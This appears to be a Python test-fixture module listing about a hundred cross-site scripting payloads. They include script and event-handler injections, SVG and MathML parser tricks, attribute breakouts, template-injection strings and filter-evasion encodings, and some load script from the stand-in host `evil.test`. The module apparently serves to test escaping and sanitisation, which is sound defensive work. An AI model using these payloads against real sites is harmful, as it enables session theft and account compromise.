"""A hundred texts that would run or call out wherever a page forgot to escape. Each sets `window.hacked`, opens a dialog or
asks another host (`evil.test`)."""

RUN = "window.hacked=1"
CALL = "//evil.test/x"

PAYLOADS = (
    # elements
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={CALL}></script>",
    f"<<script>{RUN}//<</script>",
    f"</p><script>{RUN}</script><p>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src={CALL}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={CALL}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src={CALL}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<link rel=stylesheet href={CALL}>",
    f"<style>@import '{CALL}';</style>",
    f"<style>*{{background:url({CALL})}}</style>",
    f"<meta http-equiv=refresh content='0;url={CALL}'>",
    f"<base href={CALL}>",
    f"<form action={CALL}><button autofocus onfocus={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    # out of an attribute, a comment, an element that holds text
    f"' onmouseover={RUN} x='",
    f'" onmouseover={RUN} x="',
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} "',
    f"--><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    # addresses, templates, Markdown
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"[看这里](javascript:{RUN})",
    f"![x](x'onerror='{RUN}')",
    f"<a href='javascript:{RUN}' autofocus onfocus={RUN}>看</a>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %>",
    # encodings
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\u202e<img src=x onerror={RUN}>\ufeff\x0b",
    # events that need no click, elements that load, ways around a filter of words
    f"<video src=x onloadstart={RUN}></video>",
    f"<video autoplay onplay={RUN} src=data:video/mp4;base64,AAAA></video>",
    f"<body onpageshow={RUN}>",
    f"<svg><set onbegin={RUN} attributeName=x to=1></svg>",
    f"<svg><animatetransform onbegin={RUN} attributeName=transform>",
    f"<svg><a href=javascript:{RUN}><text x=9 y=9>看</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><image href=x onerror={RUN}></svg>",
    f"<svg></p><style><g title='</style><img src=x onerror={RUN}>'>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<math><style><img src=x onerror={RUN}></style></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>看</maction></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<table background=javascript:{RUN}><td>看",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>看</button>",
    f"<div contenteditable autofocus onfocus={RUN}>看</div>",
    f"<div tabindex=0 autofocus onfocusin={RUN}>看</div>",
    f"<div style='animation:x 1s' onanimationstart={RUN}>看</div>",
    f"<div style='transition:all 1s' ontransitionend={RUN}>看</div>",
    f"<dialog open oncancel={RUN} onclose={RUN}><form method=dialog><button autofocus onfocus={RUN}>",
    f"<img srcset=x onerror={RUN}>",
    f"<img src='x` `' onerror={RUN}>",
    f"<img src=x:x onerror\n={RUN}>",
    f"<img src=x oNeRrOr\t=\t{RUN}>",
    f"<img \x0csrc=x\x0conerror={RUN}>",
    "<img src=x onerror=&#119;indow.hacked=1>",
    f"<picture><source srcset=x><img src=x onerror={RUN}></picture>",
    f"<input type=image src=x onerror={RUN}>",
    f"<link rel=preload as=script href={CALL} onload={RUN}>",
    f"<link rel=icon href={CALL}>",
    f"<iframe onload={RUN}></iframe>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<frameset onload={RUN}>",
    f"<script type=module>{RUN}</script>",
    f'<script type=importmap>{{"imports":{{"x":"{CALL}"}}}}</script>',
    f"<!--><script>{RUN}</script-->",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e<plaintext><img src=x onerror={RUN}>",
    f"{{% raw %}}{{{{ [].__class__ }}}}<img src=x onerror={RUN}>[1]\u2028</script>",
)


def groups(most: int) -> tuple[tuple[str, ...], ...]:
    """The payloads in their order, as many together as go into `most` characters."""
    packed: list[list[str]] = [[]]
    for payload in PAYLOADS:
        if packed[-1] and len(" ".join([*packed[-1], payload])) > most:
            packed.append([])
        packed[-1].append(payload)
    return tuple(map(tuple, packed))


GROUPS = groups(280)  # as long as a thumb's reason may be
SHORT = groups(60)  # as long as what is looked for may be
